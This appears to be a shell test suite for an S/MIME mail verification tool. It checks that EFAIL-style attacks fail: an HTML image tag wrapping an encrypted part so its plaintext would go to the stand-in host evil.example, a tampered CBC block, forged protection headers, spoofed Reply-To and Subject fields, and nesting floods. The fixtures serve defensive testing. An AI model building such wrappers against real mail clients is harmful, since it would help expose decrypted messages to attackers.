# EFAIL and its like: decrypted and foreign parts are never joined, nothing is shown before it is known to be whole, and for every part it is said what covers it.
. "$SURAT_SRC/tests/lib.sh"
. "$SURAT_SRC/tests/certs.sh"
cd "$T" || exit 99
make_ca ca "Test CA"
make_cert alice alice@example.org
make_cert bob bob@example.org
A="--smime-cert alice.pem --smime-key alice.key"
B="--ca-file ca.pem --smime-cert bob.pem --smime-key bob.key"
printf 'From: alice@example.org\nTo: bob@example.org\nSubject: s\nContent-Type: text/html\n\nSECRET words\n' >m
mail-sign --smime-sign $A --smime-encrypt bob.pem <m >sealed
part() { sed -n '/^Content-Type: application\/pkcs7-mime/,$p' "$1"; }
# direct exfiltration: an image that begins before and ends after
{
  printf 'From: alice@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/html\n\n<img src="http://evil.example/\n--x\n'
  part sealed
  printf -- '--x\nContent-Type: text/html\n\n">\n--x--\n'
} >wrapped
run mail-verify --decrypt $B wrapped
code_is 65 "an encrypted part among others is not written"
is "$(wc -c <.out)" 0 "not a byte"
like "$err" 'part 2 is encrypted, among parts that are not: --decrypt=2 writes it alone' "and it is said how it can be had"
run mail-verify --decrypt=2 $B wrapped
code_is 0 "by its number it is written"
like "$out" 'SECRET' "with its own words"
unlike "$out" 'evil' "alone"
like "$err" 'cover: neither: part 1$' "nothing covers what came before"
like "$err" 'cover: neither: part 3$' "nor behind"
like "$err" 'cover: signed\+encrypted: part 2/1' "the secret is covered"
unlike "$out" '^Surat-Protection:.*fields=' "its protected header is not taken for the whole message's"
run mail-verify --smime --ca-file ca.pem --json wrapped
is "$(grep -c '"method":"cover","result":"neither"' .out)" 2 "JSON says the same"
# in the same way around a signature
mail-sign --smime-sign $A <m >signed
{
  printf 'From: alice@example.org\nSubject: pay\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x\n\npay eve\n--x\n'
  sed -n '/^Content-Type: multipart\/signed/,$p' signed
  printf -- '--x--\n'
} >list
run mail-verify --smime --ca-file ca.pem list
like "$out" '^cover	neither			part 1$' "text in front of a signed part is not signed"
like "$out" '^cover	signed			part 2.1, ' "the part is"
unlike "$out" '^header' "the header of a part is not the message's"
# a third part in multipart/signed
bound=$(sed -n 's/^ boundary="\(.*\)"$/\1/p' signed | head -1)
sed "s/^--$bound--\$/--$bound\n\nadded\n--$bound--/" signed >third
run mail-verify --smime --ca-file ca.pem third
like "$out" '^cover	neither			part 3$' "a part behind the signature is not signed"
# what readers take for different messages
sed 's/^Content-Type: multipart\/signed/Content-Type: text\/plain\n&/' signed >two
run mail-verify --smime --ca-file ca.pem two
unlike "$out" '^smime	pass' "two Content-Types: nothing passes"
sed 's/^Content-Type: multipart\/signed\(.*\)/Content-Type: multipart\/signed\1\nContent-Type: text\/plain/' signed | awk '/^Content-Type: text\/plain$/ && !d {h=$0; d=1; next} d==1 && /^$/ {print h; d=2} {print}' >two
run mail-verify --smime --ca-file ca.pem two
like "$out" '^smime	policy	.*readers disagree' "the second Content-Type is said to be in dispute"
# CBC: a block that is changed decrypts to something else
mail-sign --smime-encrypt bob.pem --smime-cipher cbc <m >cbc
sed '1,/^$/d' cbc | openssl base64 -d >der
for back in 40 60 100; do
  cp der bad
  printf '\125' | dd of=bad bs=1 seek=$(($(stat -c %s der) - back)) conv=notrunc 2>/dev/null
  { sed '/^$/q' cbc; openssl base64 -in bad; } >x
  run mail-verify --decrypt $B x
  code_is 76 "a CBC block changed, $back bytes from the end"
  is "$(wc -c <.out)" 0 "nothing comes out"
done
# a record of ours that came with the message
sed 's/^Subject: .*/&\nSurat-Protection: v=1; encrypted=smime; signed=smime; by=ceo@example.org/' m >forged
run mail-verify --decrypt $B forged
is "$(grep -c '^Surat-Protection:' .out)" 1 "a forged Surat-Protection is dropped"
like "$out" '^Surat-Protection: v=1; encrypted=no; signed=no$' "ours tells the truth"
run bash -c "mail-sign --smime-sign $A <forged | mail-verify --smime --ca-file ca.pem"
unlike "$out" 'ceo' "nor is it signed by us"
# fields that are only outside
sed '1s/^/Reply-To: eve@example.net\n/' sealed >outer
run mail-verify --decrypt $B outer
like "$err" 'header: unprotected: Reply-To: eve@example.net \(only outside: not protected\)' "a Reply-To that was added is said to be"
unlike "$out" '^Reply-To' "and does not come in"
sed 's/^Subject: .*/Subject: urgent/' sealed >outer
run mail-verify --decrypt $B outer
like "$err" 'header: changed: Subject: s \(outside: urgent\)' "a Subject that was changed outside"
is "$(sed '/^$/q' .out | grep ^Subject:)" "Subject: s" "the one inside counts"
# unsigned: From inside may not stand for the one outside (RFC 9788 4.4)
mail-sign --smime-encrypt bob.pem <m | sed 's/^From: .*/From: mallory@example.net/' >unsigned
run mail-verify --decrypt $B unsigned
is "$(sed '/^$/q' .out | grep ^From:)" "From: mallory@example.net" "without a signature From stays the one outside"
# layers without end
cp m x
for i in 1 2 3 4 5 6 7 8 9 10; do mail-sign --smime-sign --smime-opaque $A <x >y && mv y x; done
run mail-verify --smime --ca-file ca.pem x
like "$out" '^cover	limited' "too many layers are not looked into, and that is said"
code_is 1 "which is no pass"
# more than anybody signs
{
  printf 'From: alice@example.org\nContent-Type: multipart/mixed; boundary=b\n\n'
  for ((i = 0; i < 300; i++)); do printf -- '--b\nContent-Type: application/pkcs7-mime\n\nAAAA\n'; done
  echo --b--
} >many
run mail-verify --smime many
is "$(grep -c '^smime	permerror' .out)" 100 "a hundred signatures are looked at"
like "$out" '^cover	limited' "and it is said that there are more"
done_testing
